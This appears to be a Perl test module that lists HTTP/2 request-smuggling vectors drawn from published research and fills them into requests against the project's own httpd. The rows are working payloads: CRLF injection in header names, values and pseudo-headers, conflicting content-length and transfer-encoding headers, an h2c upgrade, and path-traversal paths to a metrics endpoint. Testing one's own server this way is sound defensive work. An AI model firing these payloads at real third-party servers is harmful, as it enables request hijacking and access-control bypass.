# The published vectors of HTTP request smuggling over HTTP/2, one row each, for fronts that speak HTTP/1.1 to httpd.
#
#   for (h2_vectors()) { my ($name, $headers, $body, %option) = h2_filled($_, k => 'h2-7', …); $h2->request($headers, $body, %option) }
#
# The sources, by title: Kettle, HTTP/2: The Sequel is Always Worse (2021), and his http-request-smuggler; Lerner, HTTP Request Smuggling
# via Higher HTTP Versions (2021); Miller, h2c Smuggling (2020); RFC 9113, 8.2, 8.3 and 10.3. Placeholders are those of
# Collab::SmugglingVectors. A row changes a valid POST of a note: `set` changes a header, `add` appends headers, `first` puts headers in
# front, `out` removes one; `body` and `trailers` are sent as given. A body that is not a note goes to a path that does not exist.
package Collab::SmugglingH2;
use strict;
use warnings;
use Collab::SmugglingVectors qw(filled);
use Exporter 'import';
our @EXPORT = qw(h2_vectors h2_filled);

my $inject = "\n\n<S>";
my @rows = (
  ['H2.CL, 0',                        add => [['content-length', '0']], body => '<S>'],
  ['H2.CL, a prefix',                 add => [['content-length', '0']], body => '<P>'],
  ['H2.CL, shorter',                  add => [['content-length', '<note>']], body => '<J><S>'],
  ['H2.CL, longer',                   add => [['content-length', '4000']], body => '<J>'],
  ['H2.CL, two',                      add => [['content-length', '<note>'], ['content-length', '<all>']], body => '<J><S>'],
  ['H2.CL, a list',                   add => [['content-length', '<note>, <all>']], body => '<J><S>'],
  ['H2.CL, plus',                     add => [['content-length', '+<note>']], body => '<J><S>'],
  ['H2.CL, zeros',                    add => [['content-length', '000<note>']], body => '<J><S>'],
  ['H2.CL, empty',                    add => [['content-length', '']], body => '<S>'],
  ['H2.CL, not the last',             add => [['content-length', '0'], ['content-length', '<all>']], body => '<S>'],
  ['H2.CL without a body',            add => [['content-length', '<all>']]],
  ['H2.TE, chunked',                  add => [['transfer-encoding', 'chunked']], body => "0\n\n<S>"],
  ['H2.TE, a prefix',                 add => [['transfer-encoding', 'chunked']], body => "0\n\n<P>"],
  ['H2.TE, upper case',               add => [['Transfer-Encoding', 'chunked']], body => "0\n\n<S>"],
  ['H2.TE, identity',                 add => [['transfer-encoding', 'identity']], body => "0\n\n<S>"],
  ['H2.TE, a blank in the name',      add => [['transfer-encoding ', 'chunked']], body => "0\n\n<S>"],
  ['H2.TE, a blank before the value', add => [['transfer-encoding', ' chunked']], body => "0\n\n<S>"],
  ['H2.TE, an underscore',            add => [['transfer_encoding', 'chunked']], body => "0\n\n<S>"],
  ['H2.TE and a length',              add => [['transfer-encoding', 'chunked'], ['content-length', '<all>']], body => "0\n\n<S>"],
  ['H2.TE in the trailers',           body => '<J>', trailers => [['transfer-encoding', 'chunked']]],
  ['H2.CL in the trailers',           body => '<J>', trailers => [['content-length', '0']]],
  ['a pseudo-header in the trailers', body => '<J>', trailers => [[':path', '<notes>?smuggled=<k>']]],
  ['CRLF in a trailer',               body => '<J>', trailers => [['x', "y$inject"]]],
  ['te: chunked',                     add => [['te', 'trailers, chunked']], body => "0\n\n<S>"],
  ['connection names a header',       add => [['connection', 'content-length']], body => '<J>'],
  ['connection: keep-alive',          add => [['connection', 'keep-alive']], body => '<J>'],
  ['proxy-connection',                add => [['proxy-connection', 'keep-alive']], body => '<J>'],
  ['upgrade: h2c',                    add => [['upgrade', 'h2c'], ['http2-settings', 'AAMAAABkAAQAoAAAAAIAAAAA'], ['connection', 'Upgrade, HTTP2-Settings']], body => '<S>'],
  ['upgrade: websocket',              add => [['upgrade', 'websocket'], ['sec-websocket-version', '777']], body => '<S>'],
  ['expect: 100-continue',            add => [['expect', '100-continue'], ['content-length', '0']], body => '<S>'],
  ['an unknown expectation',          add => [['expect', 'wonders']], body => '<S>'],
  ['CRLF in a value',                 add => [['x', "y\nTransfer-Encoding: chunked"]], body => "0\n\n<S>"],
  ['CRLF CRLF in a value',            add => [['x', "y$inject"]], body => '<J>'],
  ['LF in a value',                   add => [['x', "y<LF>Transfer-Encoding: chunked"]], body => "0\n\n<S>"],
  ['CR in a value',                   add => [['x', "y<CR>Transfer-Encoding: chunked"]], body => "0\n\n<S>"],
  ['NUL in a value',                  add => [['x', "y<00>z"]], body => '<J>'],
  ['CRLF at the end of a value',      add => [['x', "y\n"]], body => '<J>'],
  ['CRLF at the beginning of a value', add => [['x', "\nTransfer-Encoding: chunked"]], body => "0\n\n<S>"],
  ['CRLF in a cookie',                add => [['cookie', "a=b\nTransfer-Encoding: chunked"]], body => "0\n\n<S>"],
  ['CRLF in a name',                  add => [["x: y\nTransfer-Encoding", 'chunked']], body => "0\n\n<S>"],
  ['CRLF CRLF in a name',             add => [["x: y$inject\nz", 'z']], body => '<J>'],
  ['LF in a name',                    add => [["x: y<LF>transfer-encoding", 'chunked']], body => "0\n\n<S>"],
  ['a colon in a name',               add => [['transfer-encoding: chunked', 'x']], body => "0\n\n<S>"],
  ['a blank in a name',               add => [['x transfer-encoding', 'chunked']], body => "0\n\n<S>"],
  ['NUL in a name',                   add => [["transfer-encoding<00>", 'chunked']], body => "0\n\n<S>"],
  ['an empty name',                   add => [['', 'transfer-encoding: chunked']], body => "0\n\n<S>"],
  ['a line in :method',               set => { ':method' => "GET /v1/me?smuggled=<k> HTTP/1.1\nHost: <host>\n<other>\n\nPOST" }, body => '<J>'],
  ['a request line in :method',       set => { ':method' => 'GET /v1/me?smuggled=<k> HTTP/1.1' }, body => '<J>'],
  ['an empty :method',                set => { ':method' => '' }, body => '<J>'],
  ['a line in :path',                 set => { ':path' => "/nothing?vector=<k> HTTP/1.1\nTransfer-Encoding: chunked\nX: y" }, body => "0\n\n<S>"],
  ['a request in :path',              set => { ':path' => "/v1/me?vector=<k> HTTP/1.1\nHost: <host>$inject" }],
  ['a version in :path',              set => { ':path' => '<notes>?vector=<k> HTTP/1.1' }, body => '<J>'],
  ['a blank in :path',                set => { ':path' => '<notes>?vector=<k> x' }, body => '<J>'],
  ['NUL in :path',                    set => { ':path' => '<notes>?vector=<k><00>' }, body => '<J>'],
  ['a fragment in :path',             set => { ':path' => '<notes>?vector=<k>#x' }, body => '<J>'],
  ['a backslash in :path',            set => { ':path' => '<notes>\\..?vector=<k>' }, body => '<J>'],
  ['a URL in :path',                  set => { ':path' => 'http://other.example<notes>?vector=<k>' }, body => '<J>'],
  ['a host in :path',                 set => { ':path' => '@other.example<notes>?vector=<k>' }, body => '<J>'],
  ['an empty :path',                  set => { ':path' => '' }, body => '<J>'],
  ['* as :path',                      set => { ':path' => '*' }, body => '<J>'],
  ['no :path',                        out => ':path', body => '<J>'],
  ['no :method',                      out => ':method', body => '<J>'],
  ['no :scheme',                      out => ':scheme', body => '<J>'],
  ['no :authority',                   out => ':authority', body => '<J>'],
  ['two :path',                       first => [[':path', '/v1/me?vector=<k>']], body => '<J>'],
  ['two :method',                     first => [[':method', 'GET']], body => '<S>'],
  ['two :authority',                  first => [[':authority', 'other.example']], body => '<J>'],
  ['a line in :authority',            set => { ':authority' => "<host>\nTransfer-Encoding: chunked" }, body => "0\n\n<S>"],
  ['a path in :authority',            set => { ':authority' => '<host>/v1/me?smuggled=<k>' }, body => '<J>'],
  ['a user in :authority',            set => { ':authority' => 'x@<host>' }, body => '<J>'],
  ['host differs',                    add => [['host', 'other.example']], body => '<J>'],
  ['two hosts',                       add => [['host', '<host>'], ['host', 'other.example']], body => '<J>'],
  ['a line in host',                  out => ':authority', add => [['host', "<host>\nTransfer-Encoding: chunked"]], body => "0\n\n<S>"],
  ['a URL in :scheme',                set => { ':scheme' => 'http://<host>/v1/me?smuggled=<k>&x=' }, body => '<J>'],
  ['a line in :scheme',               set => { ':scheme' => "http\nTransfer-Encoding: chunked" }, body => "0\n\n<S>"],
  ['a pseudo-header behind others',   out => ':path', add => [[':path', '<notes>?vector=<k>']], body => '<J>'],
  ['an unknown pseudo-header',        first => [[':x', 'y']], body => '<J>'],
  ['a pseudo-header of responses',    first => [[':status', '200']], body => '<J>'],
  ['extended CONNECT',                set => { ':method' => 'CONNECT' }, first => [[':protocol', 'websocket']], body => '<S>'],
  ['CONNECT',                         set => { ':method' => 'CONNECT', ':authority' => '<host>' }, body => '<S>'],
  ['GET with a body',                 set => { ':method' => 'GET', ':path' => '/v1/me?vector=<k>' }, body => '<S>'],
  ['GET with a prefix',               set => { ':method' => 'GET', ':path' => '/v1/me?vector=<k>' }, body => '<P>'],
  ['HEAD with a body',                set => { ':method' => 'HEAD', ':path' => '/v1/me?vector=<k>' }, body => '<S>'],
  ['OPTIONS with a body',             set => { ':method' => 'OPTIONS' }, body => '<S>'],
  ['no such path',                    set => { ':path' => '/nothing?vector=<k>' }, body => '<S>'],
  ['no such method',                  set => { ':path' => '/v1/me?vector=<k>' }, body => '<S>'],
  ['no token',                        out => 'authorization', body => '<S>'],
  ['chunks that are data',            body => '<chunks><S>'],
  ['a body that does not end',        body => '<S>', open => 1],
  ['a length that does not come',     add => [['content-length', '4000']], body => '<S>', open => 1],
  ['a dotted path',                   set => { ':method' => 'GET', ':path' => '/v1/..;/../the-metrics?vector=<k>' }],
  ['a path with %2f',                 set => { ':method' => 'GET', ':path' => '/v1/..%2fthe-metrics?vector=<k>' }],
  ['a path with dots',                set => { ':method' => 'GET', ':path' => '/v1/../the-metrics?vector=<k>' }],
  ['a path with a backslash',         set => { ':method' => 'GET', ':path' => '/v1/..\\the-metrics?vector=<k>' }],
  ['a path with two slashes',         set => { ':method' => 'GET', ':path' => '//the-metrics?vector=<k>' }],
);

sub h2_vectors { return @rows }

# Returns (name, headers, body, options of Collab::H2Wire's request).
sub h2_filled {
  my ($row, %value) = @_;
  my ($name, %row) = @$row;
  my $body = $row{body} // '';
  my $fill = sub { my ($text) = filled($_[0], $body, %value); return $text };
  my ($scheme, $token) = split ' ', $value{authorization} =~ s/^Authorization: //r;
  my $path = $body eq '' || $body =~ /^<(?:J|chunks)>/ ? '<notes>' : '/nothing';
  my @headers = ([':method', 'POST'], [':scheme', 'https'], [':authority', '<host>'], [':path', "$path?vector=<k>"], ['authorization', "$scheme $token"],
    ['content-type', 'application/json']);
  @headers = grep { $_->[0] ne $row{out} } @headers if $row{out};
  @headers = map { [$_->[0], $row{set}{ $_->[0] } // $_->[1]] } @headers;
  my $each = sub { return map { [map { $fill->($_) } @$_] } @_ };
  return ($name, [$each->(@{ $row{first} || [] }, @headers, @{ $row{add} || [] })], defined $row{body} ? (filled('', $body, %value))[1] : undef,
    open => $row{open}, $row{trailers} ? (trailers => [$each->(@{ $row{trailers} })]) : ());
}

1;
